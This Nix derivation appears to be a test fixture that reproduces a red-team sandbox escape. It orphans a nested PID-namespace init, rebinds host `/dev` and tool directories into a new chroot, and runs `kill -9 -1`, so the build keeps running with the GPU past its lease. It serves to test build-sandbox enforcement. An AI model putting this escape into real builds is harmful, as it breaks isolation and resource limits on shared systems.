# A tagged build that tries to end its own lease early, as a red-team pass demonstrated: it
# keeps the init of a PID namespace of its own making (`unshare -rpf`) in its chroot, leaves
# the chroot itself (in a user and mount namespace of its own it binds the host tools and
# `/dev` under /build/x and chroots there), and waits for the test to create `go` in the
# shared directory `handshake` (once a hook has recorded what it saw). Then it kills every
# other process of its PID namespace, the nested init included, says so with `killed`, and
# runs on, with the GPU, for `sleep` seconds. Its command lines hold `nested-<nonce>` (the
# nested init) and `escaped-<nonce>` (the builder after it left), so a test can find them.
# `features`: the required system features, space-separated.
{
  nonce,
  handshake,
  sleep ? "600",
  features ? "cuda",
}:
derivation {
  name = "nested-escape";
  inherit nonce;
  system = builtins.currentSystem;
  builder = "/bin/bash";
  PATH = "/bin:/usr/bin:/sbin:/usr/sbin";
  requiredSystemFeatures = builtins.filter (f: builtins.isString f && f != "") (
    builtins.split " " features
  );
  args = [
    "-c"
    ''
      unshare -rpf sh -c 'sleep 100000; : nested-${nonce}' &
      nested=$!
      # unshare forks the nested init: wait until it runs, then end unshare itself, so the
      # init is an orphan of this build's PID namespace, still in the chroot.
      until [ -n "$(cat /proc/$nested/task/$nested/children 2>/dev/null)" ]; do sleep 0.05; done
      kill -9 $nested
      mkdir -p /build/x
      exec unshare -rm sh -c '
        for d in dev bin lib lib64 usr sbin ${handshake}; do
          [ -e /$d ] || continue
          mkdir -p /build/x/$d && mount --rbind /$d /build/x/$d
        done
        exec chroot /build/x sh -c "
          while [ ! -e ${handshake}/go ]; do sleep 0.05; done
          kill -9 -1
          : > ${handshake}/killed
          sleep ${sleep}; : escaped-${nonce}"'
    ''
  ];
}
